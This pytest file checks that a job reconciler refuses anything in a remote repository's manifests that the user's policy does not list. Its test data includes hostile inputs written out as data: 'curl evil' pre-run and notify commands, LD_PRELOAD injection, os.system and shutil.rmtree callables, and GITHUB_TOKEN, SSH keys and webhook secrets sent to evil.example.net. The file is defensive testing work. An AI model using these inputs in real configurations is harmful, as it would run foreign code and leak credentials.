"""A remote repository does nothing that the policy of the user does not list; each refusal names its line."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import msgspec
import pytest

from reconciler.actual.store import Store
from reconciler.comparison import Comparison
from reconciler.desired.policy_file import LocalPolicy
from reconciler.desired.source.git import Source
from reconciler.diagnostics import Diagnostic
from reconciler.loop import Session
from reconciler.model.actions import Plan
from reconciler.model.policy import SourceRules
from reconciler.model.states import JobState
from tests.hostile.test_results import job, result, take_in
from tests.jobs.bench import Bench
from tests.support import Reconcile, Repository

URL = "https://git.example.org/group/campaign"

HEAD = "apiVersion: reconciler/v1\nkind: {}\nmetadata: {{name: {}}}\nspec:\n"

WORKER = "  type: local\n  scheduler_type: shell\n  work_dir: {work}\n"
FLOW = "  jobs:\n  - id: a\n    function: {}\n    args: [1]\n"
REMOTE = (
    "  type: remote\n  scheduler_type: shell\n  work_dir: {work}\n  host: evil.example.net\n  user: ada\n"
)

BASE = "workers: [w]\nhosts: [local]\ncallables: [math.sqrt]\n"
"""What the policy allows before the line of a case is added."""

CASES: dict[str, tuple[dict[str, str], str, str, str]] = {
    # name: (files that replace those of the sound revision, place, line that allows it, what is said)
    "os.system as function": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("os.system")},
        "flows/f.yaml:7:15", "callables: [os.system]", "'os.system'",
    ),
    "a function called while building": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("math.sqrt")
         + "    kwargs: {x: {$call: os.getcwd}}\n"},
        "flows/f.yaml:9:25", "callables: [os.getcwd]", "'os.getcwd'",
    ),
    "a factory": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + "  factory: {function: subprocess.run}\n"},
        "flows/f.yaml:5:23", "callables: [subprocess.run]", "'subprocess.run'",
    ),
    "a maker in arguments": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("math.sqrt")
         + "    kwargs:\n      m: {$maker: {class: shutil.Maker}}\n"},
        "flows/f.yaml:10:27", "callables: [shutil.Maker]", "'shutil.Maker'",
    ),
    "a name that only begins like an allowed one": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("math.sqrt_more")},
        "flows/f.yaml:7:15", "callables: [math.sqrt_more]", "'math.sqrt_more'",
    ),
    "prune: delete in a flow": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("math.sqrt") + "  prune: delete\n"},
        "flows/f.yaml:9:10", "prune: [delete]", "'prune: delete'",
    ),
    "variables of the build": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("math.sqrt")
         + "  build: {env: {LD_PRELOAD: /tmp/x.so}}\n"},
        "flows/f.yaml:9:16", "features: [build_env]", "variables of the build",
    ),
    "pre_run in a flow": (
        {"flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("math.sqrt")
         + "  exec_config: {pre_run: curl evil}\n"},
        "flows/f.yaml:9:16", "features: [inline_exec_config]", "inline exec_config",
    ),
    "pre_run of a worker": (
        {"workers/w.yaml": HEAD.format("Worker", "w") + WORKER + "  pre_run: curl evil\n"},
        "workers/w.yaml:8:12", "features: [pre_run]", "'pre_run'",
    ),
    "pre_run of an ExecConfig": (
        {"exec_configs/e.yaml": HEAD.format("ExecConfig", "e") + "  pre_run: curl evil\n"},
        "exec_configs/e.yaml:5:12", "features: [pre_run]", "'pre_run'",
    ),
    "another interpreter": (
        {"workers/w.yaml": HEAD.format("Worker", "w") + WORKER + "  python: /tmp/python\n"},
        "workers/w.yaml:8:11", "features: [python]", "'/tmp/python'",
    ),
    "a worker that is not listed": (
        {"workers/x.yaml": HEAD.format("Worker", "x") + WORKER},
        "workers/x.yaml:3:18", "workers: [x]", "the worker 'x'",
    ),
    "a foreign host": (
        {"workers/w.yaml": HEAD.format("Worker", "w") + REMOTE},
        "workers/w.yaml:8:9", "hosts: [evil.example.net]", "the host 'evil.example.net'",
    ),
    "a secret for a foreign host": (
        {"workers/w.yaml": HEAD.format("Worker", "w") + REMOTE + "  password: {env: GITHUB_TOKEN}\n"},
        "workers/w.yaml:10:13", "secrets: {evil.example.net: [env:GITHUB_TOKEN]}", "{env: GITHUB_TOKEN}",
    ),
    "a key for a gateway": (
        {"workers/w.yaml": HEAD.format("Worker", "w") + REMOTE
         + "  gateway: {host: evil.example.net, key_filename: ~/.ssh/id_rsa}\n"},
        "workers/w.yaml:10:51", "secrets: {evil.example.net: [file:~/.ssh/id_rsa]}", "~/.ssh/id_rsa",
    ),
    "the agent for a foreign host": (
        {"workers/w.yaml": HEAD.format("Worker", "w") + REMOTE + "  forward_agent: true\n"},
        "workers/w.yaml:10:18", "secrets: {evil.example.net: [agent]}", "SSH agent",
    ),
    "a host key that nobody knows": (
        {"workers/w.yaml": HEAD.format("Worker", "w") + REMOTE + "  host_key_policy: accept-new\n"},
        "workers/w.yaml:10:20", "features: [accept_new_host_keys]", "host key",
    ),
    "code of the repository": (
        {"reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n  python_path: [lib]\n",
         "lib/m.py": ""},
        "reconciler.yaml:6:17", "python_path: [lib]", "'lib'",
    ),
    "a job store with a secret": (
        {"reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n"
         "  jobstore:\n    docs_store:\n      type: MongoStore\n      host: evil.example.net\n"
         "      database: x\n      collection_name: y\n"},
        "reconciler.yaml:8:7", "jobstores: [MongoStore@evil.example.net]", "MongoStore",
    ),
    "prune: delete in the Project": (
        {"reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n  prune: delete\n"},
        "reconciler.yaml:6:10", "prune: [delete]", "'prune: delete'",
    ),
    "max_prune: 1.0": (
        {"reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n  max_prune: 1.0\n"},
        "reconciler.yaml:6:14", "max_prune: 1", "'max_prune: 1'",
    ),
    "a command that tells": (
        {"reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n  notify:\n"
         "  - {name: n, command: [curl, evil]}\n"},
        "reconciler.yaml:7:24", "features: [notify_command]", "notifications by command",
    ),
    "a webhook with a secret": (
        {"reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n  notify:\n"
         "  - {name: n, webhook: {url: 'https://evil.example.net/x', secret: {env: TOKEN}}}\n"},
        "reconciler.yaml:7:30", "hosts: [evil.example.net]", "evil.example.net",
    ),
    "lines in the header of a rule": (
        {"rules/r.yaml": HEAD.format("OverrideRule", "r") + "  set: {resources: {qverbatim: '#SBATCH x'}}\n"},
        "rules/r.yaml:5:32", "features: [qverbatim]", "'qverbatim'",
    ),
}  # fmt: skip
REFUSED = "policy/refused"


class Remote:
    """A repository that counts as a remote one, and the policy of the user."""

    def __init__(self, repository: Repository, root: Path) -> None:
        self.repository = repository
        self.root = root
        self.lines = BASE
        self.write({})

    def write(self, files: dict[str, str]) -> None:
        sound = {
            "reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n",
            "workers/w.yaml": HEAD.format("Worker", "w") + WORKER,
            "flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("math.sqrt"),
        }
        for path, text in (sound | files).items():
            self.repository.write(path, text.replace("{work}", str(self.root / "work")))
        self.repository.commit()

    @property
    def source(self) -> Source:
        entry = "".join(f"      {line}\n" for line in self.lines.splitlines())
        text = HEAD.format("Policy", "mine") + f"  sources:\n    - source: '{URL}'\n{entry}"
        source = Source(self.repository.path / ".git", None, "main", "", URL)
        source.policy = LocalPolicy(URL, self.root / "policy.yaml", text.encode())
        return source

    def plan(self) -> Plan:
        store = Store(self.root / "state")
        try:
            return Comparison(self.source, store).compared()[2]
        finally:
            store.close()

    def refused(self) -> list[Diagnostic]:
        return [problem for problem in self.plan().diagnostics if problem.code == REFUSED]


@pytest.fixture
def remote(repository: Repository, tmp_path: Path) -> Remote:
    (tmp_path / "state").mkdir(mode=0o700)
    return Remote(repository, tmp_path)


def with_line(lines: str, line: str) -> str:
    """Add a line as a person would: to the list of that name, if there is one."""
    key, _, value = line.partition(": ")
    old = next((one for one in lines.splitlines() if one.startswith(f"{key}: ")), None)
    if old is None:
        return f"{lines}{line}\n"
    return lines.replace(old, old[:-1] + ", " + value.lstrip("[{"))


def test_what_is_listed_is_allowed(remote: Remote) -> None:
    assert remote.plan().diagnostics == ()


@pytest.mark.parametrize("name", CASES)
def test_a_refusal_has_its_place_and_the_line_that_allows_it(remote: Remote, name: str) -> None:
    files, place, line, what = CASES[name]
    remote.write(files)
    found = {str(problem.location): problem for problem in remote.refused()}
    assert place in found, found
    assert what in found[place].message
    assert f"`{line}`" in (found[place].hint or "") and str(remote.root / "policy.yaml") in (
        found[place].hint or ""
    )
    remote.lines = with_line(remote.lines, line)
    after = {(str(problem.location), problem.message) for problem in remote.refused()}
    assert (place, found[place].message) not in after


def test_lines_that_are_added_one_by_one_allow_all(remote: Remote) -> None:
    remote.write(
        {
            **CASES["a secret for a foreign host"][0],
            "flows/f.yaml": HEAD.format("Flow", "f") + FLOW.format("os.system")
            + "  exec_config: {pre_run: a}\n  prune: delete\n",
            "reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n  max_prune: 1.0\n",
        }
    )  # fmt: skip
    steps = 0
    while found := remote.refused():
        hint = found[0].hint or ""
        remote.lines = with_line(remote.lines, hint.split("`")[1])
        steps += 1
        assert steps < 20, hint
    assert steps >= 6


def test_one_refused_flow_stops_only_itself(remote: Remote) -> None:
    bad = HEAD.format("Flow", "bad") + FLOW.format("os.system")
    remote.write({"flows/bad.yaml": bad, "workers/x.yaml": HEAD.format("Worker", "x") + WORKER})
    plan = remote.plan()
    assert {action.key for action in plan.effective} == {"f", "f/a"}
    assert len([problem for problem in plan.diagnostics if problem.code == REFUSED]) == 2


def test_guards_are_those_of_the_policy_whatever_a_commit_says(remote: Remote) -> None:
    remote.write(
        {
            "reconciler.yaml": HEAD.format("Project", "p")
            + "  defaults: {worker: w}\n  prune: delete\n  max_prune: 1.0\n"
        }
    )
    store = Store(remote.root / "state")
    loaded = Comparison(remote.source, store).load()
    store.close()
    assert (loaded.state.project.max_prune, str(loaded.state.project.prune)) == (0.3, "cancel")
    assert str(loaded.state.flows["f"].prune) == "cancel"


LIMITS = {
    "too many cores": ("limits: {cores: 8}", "{ntasks: 9, time: '1:00:00'}", "a job with 9 cores"),
    "too many hours": ("limits: {hours: 1}", "{ntasks: 1, time: '2:00:00'}", "a job with 2 hours"),
    "too many core-hours": ("limits: {core_hours: 10}", "{ntasks: 6, time: '2:00:00'}", "12 core-hours"),
    "no time limit": ("limits: {core_hours: 10}", "{ntasks: 6}", "does not say its core-hours"),
}


@pytest.mark.parametrize("name", LIMITS)
def test_limits_of_one_job(remote: Remote, name: str) -> None:
    line, resources, what = LIMITS[name]
    remote.write(
        {
            "workers/w.yaml": HEAD.format("Worker", "w") + WORKER.replace("shell", "slurm"),
            "flows/f.yaml": HEAD.format("Flow", "f")
            + FLOW.format("math.sqrt")
            + f"  resources: {resources}\n",
        }
    )
    assert remote.refused() == []
    remote.lines += f"{line}\n"
    (found,) = remote.refused()
    assert what in found.message and str(found.location).startswith("flows/f.yaml:9:")


def test_a_last_good_version_that_the_policy_refuses_by_now_is_not_used(remote: Remote) -> None:
    remote.lines += "features: [pre_run]\n"
    remote.write(CASES["pre_run of a worker"][0])
    store = Store(remote.root / "state")
    session = Session(remote.source, store)
    session.record_outcome(session.reconcile(Quiet()))
    remote.lines = BASE
    tightened = Session(remote.source, store)
    assert tightened.unchanged() is None  # the policy is part of what a pass depends on
    applied = tightened.reconcile(Quiet())
    assert REFUSED in {problem.code for problem in applied.plan.diagnostics}
    with store.read() as view:
        config = view.config()
    store.close()
    assert config is not None and "policy does not allow" in config.closed_workers["w"]


# from the command line, over the network --------------------------------------------------------------------


@pytest.fixture
def served(repository: Repository, tmp_path: Path) -> Iterator[str]:
    """The URL of a repository that is served over HTTP."""

    class Silent(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(Silent, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/bare.git"
    server.shutdown()


def publish(repository: Repository, tmp_path: Path) -> None:
    repository.commit()
    repository.run("push", "--quiet", "--force", str(tmp_path / "bare.git"), "main")
    repository.run(f"--git-dir={tmp_path / 'bare.git'}", "update-server-info")


def test_a_remote_without_a_policy_does_nothing_until_one_is_written(
    repository: Repository, reconcile: Reconcile, served: str, tmp_path: Path
) -> None:
    repository.run("init", "--quiet", "--bare", "--initial-branch=main", str(tmp_path / "bare.git"))
    Remote(repository, tmp_path)
    publish(repository, tmp_path)
    options = ["--repo", served, "--state-dir", str(tmp_path / "state")]
    refused = reconcile(*options, "--once")
    assert refused.returncode == 2, refused.stderr
    assert "`callables: [math.sqrt]`" in refused.stderr and "reconcile policy init" in refused.stderr
    assert "0 flows" in refused.stdout
    assert reconcile(*options, "policy", "explain").returncode == 1
    written = reconcile(*options, "policy", "init", "--write")
    assert written.returncode == 0, written.stderr
    explained = reconcile(*options, "policy", "explain", "-o", "json")
    assert explained.returncode == 0 and all(row["allowed"] for row in json.loads(explained.stdout))
    done = reconcile(*options, "--once", "--wait")
    assert done.returncode == 0, done.stderr
    assert reconcile(*options, "get", "jobs", "-o", "name").stdout.strip() == "f/a"
    again = reconcile(*options, "--once")
    assert "no changes" in again.stdout
    repository.write("flows/g.yaml", HEAD.format("Flow", "g") + FLOW.format("os.getcwd"))
    publish(repository, tmp_path)
    changed = reconcile(*options, "--once")
    assert changed.returncode == 2 and "`callables: [os.getcwd]`" in changed.stderr
    assert "flows/g.yaml:7:15" in changed.stderr


# builds -----------------------------------------------------------------------------------------------------

BUILDS = {
    "a re-export of an allowed package": (
        "{function: mycamp.os.system, args: [id]}", "'posix.system'", "callables: [posix.system]",
    ),
    "an object in a file": (
        "{function: mycamp.keep, args: [{$load: data.json}]}", "'canary.Thing'", "callables: [canary.Thing]",
    ),
    "a callable in a file, deep inside": (
        "{function: mycamp.keep, args: [{$load: deep.yaml}]}", "'canary.run'", "callables: [canary.run]",
    ),
    "a function that code passes on": (
        "{function: mycamp.keep, args: [{$call: mycamp.getter}]}",
        "'posix.system'", "callables: [posix.system]",
    ),
}  # fmt: skip
CODE = "import os\n\ndef keep(x):\n    return 1\n\ndef getter():\n    return os.system\n"
FILES = {
    "reconciler.yaml": HEAD.format("Project", "p") + "  defaults: {worker: w}\n  python_path: [lib]\n",
    "lib/mycamp.py": CODE,
    "data.json": '{"@module": "canary", "@class": "Thing"}',
    "deep.yaml": 'a: [{b: {"@module": canary, "@callable": run}}]\n',
}


class Quiet:
    """A reporter that shows nothing."""

    def say(self, line: str) -> None: ...
    def planned(self, plan: Plan) -> None: ...
    def progress(self, done: int, total: int, running: int) -> None: ...


def test_builds_import_and_call_only_what_is_allowed(remote: Remote) -> None:
    """The names of manifests are allowed; what they lead to is not, and the module is not even imported."""
    trace = remote.root / "imported"
    flows = {
        f"flows/b{number}.yaml": HEAD.format("Flow", f"b{number}") + f"  jobs: [{{id: a, {job.lstrip('{')}]\n"
        for number, (job, *_) in enumerate(BUILDS.values())
    }
    canary = f"open({str(trace)!r}, 'w')\n\ndef run(): ...\n"
    remote.write(FILES | flows | {"lib/canary.py": canary})
    remote.lines = "workers: [w]\nhosts: [local]\npython_path: [lib]\ncallables: [mycamp, math.sqrt]\n"
    store = Store(remote.root / "state")
    applied = Session(remote.source, store).reconcile(Quiet())
    with store.read() as view:
        assert [job.path for job in view.jobs_of("f")] == ["f/a"]
        assert not any(view.jobs_of(f"b{number}") for number in range(len(BUILDS)))
    found = {str(problem.location).partition(":")[0]: problem for problem in applied.plan.diagnostics}
    for number, (_, what, line) in enumerate(BUILDS.values()):
        problem = found[f"flows/b{number}.yaml"]
        assert what in problem.message and line in (problem.hint or ""), problem
    assert not trace.exists()
    # A build that is refused now is refused until the policy has its lines.
    again = Session(remote.source, store).reconcile(Quiet())
    assert again.plan.diagnostics == applied.plan.diagnostics
    lines = ["mycamp", "math.sqrt", *(line[12:-1] for *_, line in BUILDS.values())]
    remote.lines = remote.lines.replace("[mycamp, math.sqrt]", f"[{', '.join(lines)}]")
    allowed = Session(remote.source, store).reconcile(Quiet())
    store.close()
    assert REFUSED not in {problem.code for problem in allowed.plan.diagnostics}
    assert all("policy" not in problem.message for problem in allowed.plan.diagnostics)


# generated jobs ---------------------------------------------------------------------------------------------

GENERATED: dict[str, tuple[dict[str, Any], str]] = {
    "os.system": ({"function": {"@module": "os", "@callable": "system"}}, "callables: [os.system]"),
    "an object in its arguments": (
        {"function_args": [[{"x": {"@module": "shutil", "@callable": "rmtree"}}]]},
        "callables: [shutil.rmtree]",
    ),
    "pre_run": (
        {"config": {"manager_config": {"exec_config": {"pre_run": "curl evil"}}}},
        "features: [inline_exec_config]",
    ),
    "lines in its header": (
        {"config": {"manager_config": {"resources": {"qverbatim": "#SBATCH x"}}}}, "features: [qverbatim]",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", ["nothing of the kind", *GENERATED])
def test_jobs_that_a_result_asks_for_keep_the_policy(tmp_path: Path, name: str) -> None:
    """The refused one fails with the line that would allow it; its generator keeps its result."""
    fields, line = GENERATED.get(name, ({}, ""))
    bench = Bench(tmp_path / "state")
    rules = SourceRules(source=URL, callables=["m"], file="/home/ada/policy.yaml")
    bench.config = msgspec.structs.replace(bench.config, policy=rules)
    bench.flow("f", {"own": []})
    bench.start("f/own")
    new = job(**fields)
    new[0]["function"] = fields.get("function", new[0]["function"])
    assert take_in(bench, result(response={"detour": [new]}))
    (record,) = [one for one in bench.jobs() if one.key == "new"]
    bench.store.close()
    if not line:
        assert record.state is JobState.READY
    else:
        assert record.state is JobState.FAILED
        assert f"`{line}`" in (record.error or "") and "/home/ada/policy.yaml" in (record.error or "")
